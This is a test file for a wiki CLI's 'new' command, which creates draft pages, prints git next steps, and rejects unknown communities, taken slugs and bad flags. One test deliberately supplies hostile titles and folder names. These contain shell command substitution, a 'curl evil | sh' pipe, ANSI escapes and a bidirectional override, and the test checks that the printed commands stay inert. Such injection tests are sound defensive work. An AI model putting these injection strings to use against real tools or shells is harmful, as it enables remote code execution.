// `wiki new`: writes a draft in the right folder, refuses unknown communities and taken slugs, checks its flags.
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeFixture } from '../helpers/build-site.ts';
import { wiki } from '../helpers/wiki-command.ts';

const fixture = () =>
  writeFixture({
    'wiki.config.yml': 'title: Fixture\n',
    'content/ops/community.yml': 'name: Platform ops\n',
    'content/ops/Deploy Checklist.md': '# Deploy checklist\n',
    'content/User Research/README.md': '# User research\n',
  });

describe('wiki new', () => {
  it('writes a draft with front matter in the community folder and prints the next steps', () => {
    const root = fixture();
    const result = wiki(root, ['new', 'ops', 'Rotate Database Passwords', '--type', 'how-to', '--tags', 'postgres, security']);
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    const file = path.join(root, 'content/ops/rotate-database-passwords.md');
    const text = readFileSync(file, 'utf8');
    expect(text).toMatch(/^---\ntitle: Rotate Database Passwords\nsummary: ""/);
    expect(text).toContain('tags: [postgres, security]');
    expect(text).toContain('type: how-to');
    expect(text).toContain('status: draft');
    expect(text).toContain('review-by: 2027-11-22');
    expect(result.stdout).toContain('Created content/ops/rotate-database-passwords.md');
    expect(result.stdout).toContain('git switch -c ops/rotate-database-passwords');
    expect(result.stdout).toContain('git add content/ops/rotate-database-passwords.md');
    expect(result.stdout).toMatch(/pull request/);
    expect(wiki(root, ['check']).status).toBe(0);
  });

  it('quotes every name in the commands it prints, so a hostile title or community runs nothing, and escapes control characters', () => {
    const root = writeFixture({
      'wiki.config.yml': 'title: Fixture\n',
      'content/$(touch pwned-folder)/community.yml': 'name: "Ops \\e[2J\\e]0;owned\\a; curl evil | sh"\n',
    });
    const title = `Don't $(touch pwned) "; curl evil | sh; " \x1b[31mred\u202Eevil`;
    const result = wiki(root, ['new', 'touch pwned-folder', title]);
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
    const commit = /git add (.*) && git commit -m (.*)$/m.exec(result.stdout);
    expect(commit).not.toBeNull();
    // What a shell makes of the printed words when the reader pastes them: the same text, nothing run.
    const shell = (words: string) => execFileSync('sh', ['-c', `printf '%s\\n' ${words}`], { cwd: root, encoding: 'utf8' }).split('\n').slice(0, -1);
    const file = 'content/$(touch pwned-folder)/dont-touch-pwned--curl-evil--sh--31mredevil.md';
    expect(existsSync(path.join(root, file))).toBe(true);
    expect(shell(commit![1]!)).toEqual([file]);
    expect(shell(commit![2]!)).toEqual([`Add "Don't $(touch pwned) \"; curl evil | sh; \" \\x1b[31mred\\u202eevil" to Ops \\x1b[2J\\x1b]0;owned\\x07; curl evil | sh`]);
    expect(existsSync(path.join(root, 'pwned'))).toBe(false);
    expect(existsSync(path.join(root, 'pwned-folder'))).toBe(false);
  });

  it('finds a community by its name and folder, and writes into sub-folders', () => {
    const root = fixture();
    expect(wiki(root, ['new', 'user research', 'Interview guide']).status).toBe(0);
    expect(existsSync(path.join(root, 'content/User Research/interview-guide.md'))).toBe(true);
    expect(wiki(root, ['new', 'Platform ops/runbooks', 'Restore']).status).toBe(0);
    expect(existsSync(path.join(root, 'content/ops/runbooks/restore.md'))).toBe(true);
  });

  it('refuses an unknown community and suggests the nearest one', () => {
    const result = wiki(fixture(), ['new', 'opps', 'Anything']);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('there is no community "opps". Did you mean "ops" (Platform ops)?');
    expect(result.stderr).not.toMatch(/\n\s+at /);
  });

  it('refuses a slug that is taken, whatever the file is called', () => {
    const root = fixture();
    const result = wiki(root, ['new', 'ops', 'deploy checklist!']);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('content/ops/Deploy Checklist.md already exists at /ops/deploy-checklist/');
    expect(wiki(root, ['new', 'ops', 'Deploy Checklist', '--tags', 'x']).status).toBe(1);
  });

  it('exits 2 with the usage on wrong flags or arguments', () => {
    const root = fixture();
    for (const args of [['new', 'ops'], ['new', 'ops', 'T', '--type', 'novel'], ['new', 'ops', 'T', '--colour'], ['new', 'ops', '???'], ['new', 'ops/../..', 'Escape']]) {
      const result = wiki(root, args);
      expect(result.status, args.join(' ')).toBe(2);
      expect(result.stderr).toContain('Usage: npm run wiki -- new');
    }
    expect(wiki(root, ['new', '--help']).status).toBe(0);
  });
});
